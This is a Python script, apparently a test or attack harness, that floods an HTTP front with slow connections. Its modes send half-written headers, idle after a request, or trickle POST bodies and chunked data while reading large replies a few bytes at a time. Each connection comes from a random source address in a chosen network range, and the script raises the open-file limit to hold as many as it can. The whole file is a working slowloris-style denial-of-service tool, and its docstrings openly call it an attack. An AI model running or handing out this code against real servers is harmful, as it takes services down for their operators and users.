"""Hold many connections to a front from one side, each of which asks for too little: run on a host that is attacked.

    python3 flood.py ADDRESS PORT SECONDS NETWORK KIND COUNT FIRST

NETWORK is where the connections come from, of its addresses each time another one. Of the kinds ``half`` sends half of
a request's headers, ``idle`` asks once and stays, and ``slow`` sends a body byte by byte or takes a large answer in
small pieces. What is closed is opened anew, each by the next port of those from FIRST on: to look for a free one of so
many would take the kernel longer than all else. Prints how many there were.
"""

from __future__ import annotations

import ipaddress
import itertools
import json
import random
import resource
import select
import socket
import sys
import time

HEAD = b"GET %s HTTP/1.1\r\nHost: good.example\r\n"
BEGINNINGS = {
    "half": [HEAD % b"/" + b"X-A: "],
    "idle": [HEAD % b"/static/a.css" + b"\r\n"],
    "slow": [
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 100000\r\n\r\nx",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n9000\r\nx",
        b"POST /login HTTP/1.1\r\nHost: good.example\r\nContent-Length: 1000\r\n\r\nx",
        HEAD % b"/?size=300000" + b"\r\n",
    ],
}
IPV6_FREEBIND = 78  # linux/in6.h


class Flood:
    """Connections, by their descriptors, and what became of them."""

    def __init__(self, address: str, port: int, network: str, ports: range) -> None:
        """Know whom to attack, and from where."""
        self.address, self.port, self.network = address, port, ipaddress.ip_network(network)
        self.ports = itertools.cycle(ports)
        self.family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.poll = select.epoll()
        self.open: dict[int, tuple[socket.socket, str, float]] = {}
        self.counts = {"begun": 0, "connected": 0, "closed": 0}

    def source(self) -> str:
        """Return an address of the network."""
        return str(self.network[random.randrange(self.network.num_addresses)])

    def begin(self, kind: str) -> None:
        """Begin one connection."""
        client = socket.socket(self.family)
        client.setblocking(False)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if self.family == socket.AF_INET6:
            client.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        self.counts["begun"] += 1
        try:
            client.bind((self.source(), next(self.ports)))
            client.connect((self.address, self.port))
        except BlockingIOError:
            pass
        except OSError:
            client.close()
            self.counts["closed"] += 1
            return
        self.open[client.fileno()] = client, kind, 0
        self.poll.register(client, select.EPOLLOUT | select.EPOLLIN)

    def end(self, number: int) -> None:
        """Give one up that the other side gave up."""
        self.poll.unregister(number)
        self.open.pop(number)[0].close()
        self.counts["closed"] += 1

    def go_on(self, number: int, events: int) -> None:
        """Say what is to be said on a connection, and take a little of what is answered."""
        client, kind, last = self.open[number]
        try:
            if events & (select.EPOLLHUP | select.EPOLLERR) or (events & select.EPOLLIN and not client.recv(1000)):
                self.end(number)
            elif not last and events & select.EPOLLOUT:
                client.send(random.choice(BEGINNINGS[kind]))
                self.counts["connected"] += 1
                self.open[number] = client, kind, time.monotonic()
                # The slow ones take nothing by themselves.
                self.poll.modify(number, 0 if kind == "slow" else select.EPOLLIN)
        except OSError:
            self.end(number)

    def run(self, kind: str, count: int, seconds: float) -> None:
        """Hold so many for so long."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for _ in range(count - len(self.open)):
                self.begin(kind)
            until = min(deadline, time.monotonic() + 0.5)
            while (left := until - time.monotonic()) > 0:
                for number, events in self.poll.poll(left, 1000):
                    self.go_on(number, events)
            for number, (client, kind, last) in list(self.open.items()):
                if kind == "slow" and last and time.monotonic() - last > 1:
                    try:
                        client.send(b"x")
                        client.recv(500)
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.end(number)
                        continue
                    self.open[number] = client, kind, time.monotonic()


def main() -> None:
    """Attack, and tell what became of it."""
    address, port, seconds, network, kind, count, first = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flood = Flood(address, int(port), network, range(int(first), int(first) + 2 * int(count)))
    flood.run(kind, int(count), float(seconds))
    print(json.dumps(flood.counts))


if __name__ == "__main__":
    main()
